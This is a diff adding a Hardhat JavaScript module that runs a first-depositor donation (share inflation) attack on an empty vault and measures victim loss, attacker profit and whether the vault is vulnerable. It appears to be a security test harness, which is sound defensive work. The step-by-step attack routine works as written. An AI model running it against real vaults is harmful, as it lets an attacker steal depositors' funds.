@@ -0,0 +1,120 @@
+const { ethers } = require("hardhat");
+const { ERC20_ABI } = require("./abis");
+const { getVaultState, valueInToken1 } = require("./vault-state");
+const { vaultActionsFromReceipt } = require("./invariants");
+
+const VAULT_ABI = [
+  "function totalSupply() view returns (uint256)",
+  "function balanceOf(address) view returns (uint256)",
+  "function deposit() external returns (uint256 shares)",
+  "function withdrawAll(uint256 amount0Min, uint256 amount1Min) external returns (uint256 amount0, uint256 amount1)"
+];
+
+const BPS = 10_000;
+
+async function approveBoth(signer, state, vaultAddress, amount0, amount1) {
+  for (const [address, amount] of [[state.token0Address, amount0], [state.token1Address, amount1]]) {
+    const token = new ethers.Contract(address, ERC20_ABI, signer);
+    await (await token.approve(vaultAddress, amount)).wait();
+  }
+}
+
+// Token amounts a user gave up (deposit) or received (withdraw), from their wallet deltas.
+function walletDelta(before, after) {
+  return {
+    amount0: before.user.token0Balance.sub(after.user.token0Balance).abs(),
+    amount1: before.user.token1Balance.sub(after.user.token1Balance).abs()
+  };
+}
+
+/**
+ * First-depositor / donation (share inflation) attack against an empty vault:
+ *   1. the attacker deposits a dust `seed` and holds (almost) all shares,
+ *   2. donates `donation` straight to `donateTo` (the strategy by default) to inflate PPFS,
+ *   3. the victim deposits `victimDeposit` and is rounded down to few or no shares,
+ *   4. both withdraw everything.
+ * Amounts are raw `{ amount0, amount1 }`. Everything is valued in token1 at the pool price.
+ *
+ * Resolves to `{ skipped, reason }` when the vault already has shares, otherwise to the
+ * measured outcome; `vulnerable` is true when the victim lost more than `maxVictimLossBps`
+ * or the attacker came out ahead, `griefed` when the victim's deposit reverted.
+ */
+async function runDonationAttack({ vaultConfig, attacker, victim, seed, donation, victimDeposit, donateTo, maxVictimLossBps = 100 }) {
+  const vault = new ethers.Contract(vaultConfig.vault, VAULT_ABI, attacker);
+  const initial = await getVaultState(attacker, vaultConfig);
+  if (!initial.accounting.totalSupply || !initial.accounting.totalSupply.isZero()) {
+    return { skipped: true, reason: `vault already has ${initial.accounting.totalSupply} shares; the attack needs an empty vault` };
+  }
+  const priceX96 = initial.accounting.priceX96;
+  const target = donateTo || initial.strategyAddress;
+
+  // 1. dust seed
+  await approveBoth(attacker, initial, vault.address, seed.amount0, seed.amount1);
+  const seedReceipt = await (await vault.deposit()).wait();
+  const [seedAction] = vaultActionsFromReceipt(seedReceipt, vault.address);
+  const afterSeed = await getVaultState(attacker, vaultConfig);
+  const seeded = walletDelta(initial, afterSeed);
+
+  // 2. donation
+  for (const [address, amount] of [[initial.token0Address, donation.amount0], [initial.token1Address, donation.amount1]]) {
+    if (ethers.BigNumber.from(amount).isZero()) continue;
+    await (await new ethers.Contract(address, ERC20_ABI, attacker).transfer(target, amount)).wait();
+  }
+  const afterDonation = await getVaultState(attacker, vaultConfig);
+
+  // 3. victim deposit; a ZeroShares revert means the donation priced them out entirely
+  const victimBefore = await getVaultState(victim, vaultConfig);
+  await approveBoth(victim, victimBefore, vault.address, victimDeposit.amount0, victimDeposit.amount1);
+  let victimShares = ethers.constants.Zero;
+  let victimReverted = null;
+  try {
+    const receipt = await (await vault.connect(victim).deposit()).wait();
+    victimShares = vaultActionsFromReceipt(receipt, vault.address)[0]?.shares || (await vault.balanceOf(victim.address));
+  } catch (e) {
+    victimReverted = String(e.reason || e.errorName || e.message).slice(0, 160);
+  }
+  const victimDeposited = victimReverted ? { amount0: ethers.constants.Zero, amount1: ethers.constants.Zero } : walletDelta(victimBefore, await getVaultState(victim, vaultConfig));
+
+  // 4. exits
+  let victimReturned = { amount0: ethers.constants.Zero, amount1: ethers.constants.Zero };
+  if (victimShares.gt(0)) {
+    const before = await getVaultState(victim, vaultConfig);
+    await (await vault.connect(victim).withdrawAll(0, 0)).wait();
+    victimReturned = walletDelta(before, await getVaultState(victim, vaultConfig));
+  }
+  const attackerBefore = await getVaultState(attacker, vaultConfig);
+  await (await vault.withdrawAll(0, 0)).wait();
+  const attackerReturned = walletDelta(attackerBefore, await getVaultState(attacker, vaultConfig));
+
+  const value = (m) => valueInToken1(m.amount0, m.amount1, priceX96);
+  const victimIn = value(victimDeposited);
+  const victimOut = value(victimReturned);
+  const attackerIn = value(seeded).add(value(donation));
+  const attackerOut = value(attackerReturned);
+  const victimLossBps = victimIn.isZero() ? 0 : victimIn.sub(victimOut).mul(BPS).div(victimIn).toNumber();
+  const attackerProfit = attackerOut.sub(attackerIn);
+
+  return {
+    skipped: false,
+    donateTo: target,
+    attackerShares: seedAction ? seedAction.shares.toString() : afterSeed.accounting.userShares.toString(),
+    lockedShares: afterSeed.accounting.totalSupply.sub(afterSeed.accounting.userShares).toString(),
+    ppfsAfterSeed: afterSeed.accounting.ppfs ? afterSeed.accounting.ppfs.toString() : null,
+    ppfsAfterDonation: afterDonation.accounting.ppfs ? afterDonation.accounting.ppfs.toString() : null,
+    victimShares: victimShares.toString(),
+    victimReverted,
+    victimIn: victimIn.toString(),
+    victimOut: victimOut.toString(),
+    victimLossBps,
+    attackerIn: attackerIn.toString(),
+    attackerOut: attackerOut.toString(),
+    attackerProfit: attackerProfit.toString(),
+    // A reverted victim deposit loses nothing, but the vault is unusable at that size.
+    griefed: victimReverted !== null,
+    vulnerable: victimLossBps > maxVictimLossBps || attackerProfit.gt(0)
+  };
+}
+
+module.exports = {
+  runDonationAttack
+};